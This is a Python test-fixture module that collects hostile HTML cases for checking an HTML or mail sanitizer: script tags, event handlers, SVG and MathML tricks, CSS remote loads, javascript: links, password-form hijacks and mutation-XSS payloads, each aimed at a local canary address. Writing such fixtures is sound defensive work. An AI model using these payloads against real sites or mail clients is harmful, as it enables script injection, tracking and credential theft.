"""HTML as attackers write it: each case tries to run something, to load something, or to leave its place.

Collected from what mail programs had to mend (MailSploit, EFAIL, the DOMPurify and ammonia advisories, OWASP's list of filter
evasions) and from the HTML standard; ``hostile_html_newer`` has more.
``{hit}`` is the address of the canary: who asks for it has done what it must not.
"""

from .hostile_html_newer import NEWER

# Runs in whatever manages to: asks for the canary, in ways that need different permissions, and opens a dialog.
_RUN = "new Image().src='{hit}/run';fetch('{hit}/fetch');alert('{hit}')"
_ENTITIES = "".join(f"&#{ord(letter)};" for letter in "javascript:alert(1)")

SCRIPTS = {
    "script": "<script>{run}</script>",
    "script in capitals with a blank": "<SCRIPT >{run}</SCRIPT >",
    "script from elsewhere": '<script src="{hit}/s.js"></script>',
    "script from elsewhere, no protocol": '<script src="{bare}/s.js"></script>',
    "script module": '<script type="module">import "{hit}/m.js";{run}</script>',
    "script split by another": "<scr<script>ipt>{run}</scr</script>ipt>",
    "script after a broken tag": '<img """><script>{run}</script>">',
    "script never closed": "<script>{run}",
    "script in a comment that ends early": "<!--><script>{run}</script>-->",
    "script in a downlevel comment": "<!--[if gte mso 9]><script>{run}</script><![endif]-->",
    "script after a NUL": "<scr\0ipt>{run}</script><\0script>{run}</script>",
    "script by UTF-7": "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "script within noscript": '<noscript><p title="</noscript><script>{run}</script>"></noscript>',
    "script within a template": "<template><script>{run}</script></template>",
    "script within xmp": "<xmp></xmp><script>{run}</script>",
    "script within a textarea": '<textarea><img title="</textarea><script>{run}</script>"></textarea>',
    "script in a declarative shadow root": '<div><template shadowrootmode="open"><script>{run}</script></template></div>',
}
HANDLERS = {
    "image that fails": '<img src="x:y" onerror="{run}">',
    "image that fails, slashes for blanks": "<img/src='x:y'/onerror={run_unquoted}>",
    "image that fails, in capitals and a line break": '<IMG SRC="x:y" ONERROR\n=\n"{run}">',
    "body that loads": '<body onload="{run}">',
    "body that comes in late": '<p>a</p><body onpageshow="{run}" background="{hit}/bg">',
    "details that opens": '<details open ontoggle="{run}">x</details>',
    "input that takes the focus": '<input autofocus onfocus="{run}">',
    "anything that takes the focus": '<p tabindex="0" autofocus onfocus="{run}">x</p>',
    "animation that ends": '<style>@keyframes x{{}}</style><p style="animation-name:x" onanimationstart="{run}">x</p>',
    "transition": '<p style="transition:color 1ms" ontransitionrun="{run}">x</p>',
    "marquee": '<marquee onstart="{run}" loop="1">x</marquee>',
    "video source": '<video poster="{hit}/poster"><source src="{hit}/v" onerror="{run}"></video>',
    "audio": '<audio src="{hit}/a" autoplay onerror="{run}"></audio>',
    "a handler beside a style with quotes": "<p style='color:red\"' onclick='{run_double}'>x</p>",
    "content that scrolls into sight": '<p oncontentvisibilityautostatechange="{run}" style="content-visibility:auto">x</p>',
}
FOREIGN = {
    "SVG that loads": '<svg onload="{run}"></svg>',
    "SVG with a script": "<svg><script>{run}</script></svg>",
    "SVG with a script in a namespace": '<svg><script xlink:href="{hit}/svg.js"></script></svg>',
    "SVG with a picture": '<svg><image href="{hit}/i" xlink:href="{hit}/x"/></svg>',
    "SVG that uses another": '<svg><use href="{hit}/u.svg#a"/></svg>',
    "SVG that animates a link": '<svg><a><animate attributeName="href" values="javascript:{run}"/><text>x</text></a></svg>',
    "SVG that sets a handler": '<svg><set attributeName="onmouseover" to="{run}"/></svg>',
    "SVG with HTML in it": '<svg><foreignObject><iframe src="{hit}/f"></iframe></foreignObject></svg>',
    "SVG with a style sheet": "<svg><style>*{{background:url({hit}/c)}}</style></svg>",
    "SVG filter": '<svg><filter id="f"><feImage href="{hit}/fe"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
    "SVG as a data picture": '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22'
    ' onload=%22alert(1)%22/%3E">',
    "MathML link": '<math><maction actiontype="statusline" xlink:href="javascript:{run}">x</maction></math>',
    "MathML with HTML": '<math><mtext><img src="x:y" onerror="{run}"></mtext></math>',
    "XML processing instruction": '<?xml-stylesheet href="{hit}/p.css"?><p>x</p>',
}
STYLES = {
    "style: background": '<p style="background:url({hit}/s1)">x</p>',
    "style: background, escaped": '<p style="background:u\\72l({hit}/s2)">x</p>',
    "style: background in a comment": '<p style="background:ur/**/l({hit}/s3);background:url/**/({hit}/s3)">x</p>',
    "style: image-set": "<p style=\"background-image:image-set('{hit}/s4' 1x)\">x</p>",
    "style: list": '<ul style="list-style:url({hit}/s5)"><li>x</li></ul>',
    "style: cursor": '<p style="cursor:url({hit}/s6),auto">x</p>',
    "style: content": '<p style="content:url({hit}/s7)">x</p>',
    "style: border image": '<p style="border:1px solid;border-image:url({hit}/s8) 1">x</p>',
    "style: variable": '<p style="--x:url({hit}/s9);background:var(--x)">x</p>',
    "style: mask and filter": '<p style="mask:url({hit}/s10);filter:url({hit}/s10b);clip-path:url({hit}/s10c)">x</p>',
    "style sheet: import": "<style>@import '{hit}/i.css';</style>",
    "style sheet: import by url, in an entity": "<style>@im\\70ort url({hit}/i2.css);</style>",
    "style sheet: font": "<style>@font-face{{font-family:x;src:url({hit}/f.woff)}}p{{font-family:x}}</style><p>x</p>",
    "style sheet that reads": "<style>p[title^=a]{{background:url({hit}/leak-a)}}</style><p title=a>x</p>",
    "style sheet: ended by an attribute": '<style><a title="</style><img src=x:y onerror={run_unquoted}>">',
    "style: covers everything": '<p style="position:fixed;inset:0;z-index:9999"><a href="{hit}/cover">x</a></p>',
    "style: behaviour and expression": '<p style="behavior:url({hit}/b);width:expression({run});-moz-binding:url({hit}/m)">x</p>',
    "link: style sheet": '<link rel="stylesheet" href="{hit}/l.css">',
    "link: prefetch and others": '<link rel="prefetch" href="{hit}/l1"><link rel="preload" as="image" href="{hit}/l2">'
    '<link rel="icon" href="{hit}/l3"><link rel="manifest" href="{hit}/l4"><link rel="modulepreload" href="{hit}/l5">'
    '<link rel="prerender" href="{hit}/l6"><link rel="import" href="{hit}/l7">',
}
LOADS = {
    "picture": '<img src="{hit}/p1">',
    "picture, no protocol": '<img src="{bare}/p2">',
    "picture, backslashes": '<img src="\\\\{host}/p3"><img src="http:\\\\{host}/p3b">',
    "picture, broken up": '<img src="ht\ntp://{host}/p4"><img src=" \x01{hit}/p4b">',
    "picture, entities": '<img src="&#104;ttp&colon;//{host}/p5">',
    "picture, srcset": '<img srcset="{hit}/p6 1x, {hit}/p6b 2x">',
    "picture element": '<picture><source srcset="{hit}/p7"><img src="{hit}/p7b"></picture>',
    "picture, lazy": '<img loading="eager" fetchpriority="high" src="{hit}/p8" lowsrc="{hit}/p8b" dynsrc="{hit}/p8c">',
    "picture, no quotes": "<img src={hit}/p9>",
    "picture, quotes of another kind": "<img src='{hit}/p10'><img src=`{hit}/p10b`>",
    "picture, in a link that pings": '<a href="https://example.com" ping="{hit}/ping"><img src="{hit}/p11"></a>',
    "image that is none": '<image src="{hit}/p12"><input type="image" src="{hit}/p12b">',
    "table background": '<table background="{hit}/t1"><tr><td background="{hit}/t2">x</td></tr></table>',
    "frames": '<iframe src="{hit}/f1"></iframe><frameset><frame src="{hit}/f2"></frameset>',
    "frame with its document": "<iframe srcdoc=\"<script>{run_double}</script><img src='{hit}/f3'>\"></iframe>",
    "frame of a script": '<iframe src="javascript:{run}"></iframe>',
    "object and embed": '<object data="{hit}/o1"><embed src="{hit}/o2"></object><applet code="{hit}/o3"></applet>',
    "object of HTML": '<object type="text/html" data="data:text/html,<script>{run}</script>"></object>',
    "portal and fenced frame": '<portal src="{hit}/o4"></portal><fencedframe src="{hit}/o5"></fencedframe>',
    "track": '<video><track default src="{hit}/track"></video>',
    "base": '<base href="{hit}/"><img src="relative"><a href="x">x</a>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url={hit}/meta">',
    "meta refresh to a script": '<meta http-equiv="refresh" content="0;url=javascript:{run}">',
    "meta policy and cookie": '<meta http-equiv="Content-Security-Policy" content="img-src *; report-uri {hit}/csp">'
    '<meta http-equiv="Set-Cookie" content="session_id=stolen"><meta name="referrer" content="unsafe-url">',
}
LINKS = {
    "link: script": '<a href="javascript:{run}">x</a>',
    "link: script, entities": f'<a href="{_ENTITIES}">x</a>',
    "link: script, blanks": '<a href=" \x01java\tscript\n:{run}">x</a>',
    "link: script, vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link: data": '<a href="data:text/html,<script>{run}</script>">x</a>',
    "link: data, base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "link: blob and file": '<a href="blob:{hit}">x</a><a href="file:///etc/passwd">y</a><a href="filesystem:{hit}">z</a>',
    "link into this server": '<a href="/web/session/logout">x</a><a href="?remote=1">y</a><a href="#a">z</a>',
    "link to places that are named as what scripts ask for": '<a id="body" name="cookie" href="#body">x</a>'
    '<p id="__proto__">y</p><a href="#__proto__">z</a><img name="querySelector" id="o_web_client"><a href="#o_web_client">x</a>'
    '<a href="#top">y</a>',
    "link that names a window": '<a href="https://example.com" target="_top" rel="opener">x</a>',
    "area": '<img src="cid:x" usemap="#m"><map name="m"><area shape="default" href="javascript:{run}"></map>',
}
FORMS = {
    "form": '<form action="{hit}/form"><input name="password"><button autofocus>Log in</button></form>',
    "form that sends itself": '<form id="f" action="{hit}/form2"></form><script>f.submit()</script>',
    "button with an address of its own": '<form><button formaction="javascript:{run}">x</button></form>',
    "input outside of the form": '<form id="g" action="{hit}/form3"></form><input type="submit" form="g">',
    "dialog": '<dialog open><form method="dialog"><button>x</button></form></dialog>',
}
# Read once they are harmless; read again, as a browser does that gets what a sanitizer wrote, they are not.
MUTATIONS = {
    "mutation: MathML and style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:y'
    ' onerror={run_entities}&gt;">',
    "mutation: form in form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run_unquoted}>",
    "mutation: SVG and p": '<svg></p><style><a id="</style><img src=x:y onerror={run_unquoted}>">',
    "mutation: title in SVG": '<svg><title><style><img title="</style></title></svg><img src=x:y onerror={run_unquoted}>">',
    "mutation: noscript": "<noscript><style></noscript><img src=x:y onerror={run_unquoted}></style>",
    "mutation: select": "<select><style></select><img src=x:y onerror={run_unquoted}></style>",
    "mutation: backquotes": '<p title="``onmouseover={run_unquoted}">x</p><img alt="`><img src=x:y onerror={run_unquoted}>`">',
    "mutation: annotation-xml": '<math><annotation-xml encoding="text/html"><style><img title="</style>'
    '<img src=x:y onerror={run_unquoted}>"></style></annotation-xml></math>',
    "mutation: depth": "<div>" * 600 + "<svg><style><img title='</style><img src=x:y onerror={run_unquoted}>'>",
    "mutation: CDATA": "<svg><![CDATA[><img src=x:y onerror={run_unquoted}>]]></svg>",
    "mutation: comment in SVG": "<svg><!--<p>--!><img src=x:y onerror={run_unquoted}>--></svg>",
    "mutation: nested links and tables": "<a><table><a href='javascript:{run_double}'><td><a><img src=x:y"
    " onerror={run_unquoted}></table></a>",
}
ALL = {**NEWER, **SCRIPTS, **HANDLERS, **FOREIGN, **STYLES, **LOADS, **LINKS, **FORMS, **MUTATIONS}
MEGABYTES = 10


def cases(host):
    """Return ``{title: html}`` with the canary at ``host`` (name and port); the number of the case is in what it asks for."""
    made = {}
    for number, (title, html) in enumerate(ALL.items()):
        bare = f"//{host}/hit/{number}"
        hit = f"http:{bare}"
        run = _RUN.format(hit=hit)
        unquoted = run.replace("'", "&#39;").replace(" ", "&#32;")
        made[title] = html.format(
            hit=hit,
            bare=bare,
            host=f"{host}/hit/{number}",
            run=run,
            run_double=run.replace("'", "&quot;"),
            run_unquoted=unquoted,
            run_entities=unquoted.replace("&", "&amp;"),
        )
    return made


def nested_tables():
    """Return 10 MB of tables in tables, with something to load at the bottom."""
    level = "<table><tbody><tr><td bgcolor='#ffffff' align='left'>"
    return level * (MEGABYTES * 1_000_000 // len(level)) + "<p>The bottom</p>"
